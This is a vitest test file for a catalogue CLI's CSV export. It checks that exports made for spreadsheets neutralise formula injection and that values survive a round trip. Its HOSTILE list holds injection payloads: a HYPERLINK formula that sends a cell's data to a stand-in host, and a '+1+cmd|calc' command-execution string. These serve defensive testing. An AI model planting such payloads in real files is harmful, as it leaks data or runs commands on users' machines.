import { mkdtempSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { beforeEach, expect, test } from 'vitest';
import { exportCommand } from '#cli/export-command.ts';
import { plainCell, readCell, spreadsheetCell } from '#cli/formats/formulas.ts';
import { importCommand } from '#cli/import-command.ts';
import { testDatabase } from '#test/database.ts';
import { createImporting, jsonLines } from '#test/importing.ts';
import { Operator } from '#test/operator.ts';

const db = await testDatabase();
const { empty } = createImporting(db);
const operator = new Operator(db);
const folder = mkdtempSync(join(tmpdir(), 'souk-spreadsheets-'));
const at = (name: string): string => join(folder, name);

/** What a stranger who may name products could have a spreadsheet do. */
const HOSTILE = [
  '=HYPERLINK("http://example.com/?"&A1)',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '＝1+1',
  "'=quoted already",
  "''-twice",
  "'tis no formula",
  '-5',
];

const record = (title: string, at: number) => ({
  handle: `product-${at}`,
  title: { en: title, fr: `${title} (fr)` },
  category: ['Kitchen'],
  tags: ['-10 %', 'plain'],
  price: '5',
  variants: [{ sku: `=SKU-${at}`, values: [{ attribute: 'Size', value: title }] }],
});

const bring = async (name: string) => {
  const told = await operator.run(importCommand, at(name));
  return told.out.split('\n')[1]?.trim();
};

const titles = async (): Promise<string[]> => {
  const rows = await db.selectFrom('product').select('title').orderBy('id').execute();
  return rows.map(({ title }) => title.en);
};

const COUNT = HOSTILE.length;

beforeEach(async () => {
  await empty();
  await writeFile(at('hostile.jsonl'), jsonLines(...HOSTILE.map(record)));
  await bring('hostile.jsonl');
});

test('a spreadsheet finds no formula in an export made for it, and it comes back as it was', async () => {
  const { out } = await operator.run(exportCommand, at('safe.csv'), '--for-spreadsheets');
  expect(out).toBe(`${COUNT} products written to ${at('safe.csv')}`);
  const rows: string[][] = parse(await readFile(at('safe.csv')));
  expect(rows.flat().filter((cell) => /^\s*[=+\-@＝]/.test(cell))).toEqual([]);
  expect(rows.flat()).toContain(`'${HOSTILE[0]}`);
  expect(rows.flat()).toContain("'tis no formula");

  expect(await titles()).toEqual(HOSTILE);
  const same = `0 new, 0 changed, ${COUNT} as they were, 0 refused`;
  expect(await bring('safe.csv')).toBe(same);
  await empty();
  expect(await bring('safe.csv')).toBe(`${COUNT} new, 0 changed, 0 as they were, 0 refused`);
  expect(await titles()).toEqual(HOSTILE);
});

test('an export that is not made for them says how many cells a spreadsheet would calculate', async () => {
  const { out } = await operator.run(exportCommand, at('plain.csv'));
  expect(out).toContain('cells begin with = + - or @, which a spreadsheet calculates');
  expect(out).toContain('--for-spreadsheets');
  expect(await bring('plain.csv')).toBe(`0 new, 0 changed, ${COUNT} as they were, 0 refused`);

  await empty();
  await writeFile(
    at('tame.jsonl'),
    jsonLines({ ...record('Pot', 1), tags: [], variants: [{ sku: 'P' }] }),
  );
  await bring('tame.jsonl');
  const tame = await operator.run(exportCommand, at('tame.csv'));
  expect(tame.out).toBe(`1 product written to ${at('tame.csv')}`);
});

test('only CSV is made for spreadsheets', async () => {
  expect(await operator.run(exportCommand, at('all.jsonl'), '--for-spreadsheets')).toMatchObject({
    code: 1,
    error: '--for-spreadsheets is for a FILE that ends in .csv.',
  });
});

test('a list of what was refused has no formula in it either', async () => {
  await writeFile(at('bad.csv'), 'handle,title,price\n=1+1,Bad,5\n');
  await operator.run(importCommand, at('bad.csv'));
  const rows: string[][] = parse(await readFile(at('bad.csv.refused.csv')));
  expect(rows[1]?.[3]).toBe("'=1+1");
});

test('whatever a cell holds, it comes back from either kind of export', () => {
  const cell = fc.string({ unit: fc.constantFrom("'", '=', '-', '@', '+', ' ', '\t', 'a', '＋') });
  fc.assert(
    fc.property(cell, (text) => {
      expect(readCell(plainCell(text))).toBe(text);
      expect(readCell(spreadsheetCell(text))).toBe(text);
    }),
  );
});
